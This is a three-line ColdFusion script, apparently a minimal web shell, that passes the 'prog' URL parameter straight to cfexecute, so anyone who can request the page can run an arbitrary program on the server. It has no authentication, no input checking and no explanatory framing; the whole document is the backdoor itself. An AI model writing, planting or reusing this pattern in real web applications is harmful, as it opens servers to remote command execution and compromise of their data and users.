<cfscript>
cfexecute(name = url.prog, arguments = "", variable = "o", timeout = 5);
</cfscript>
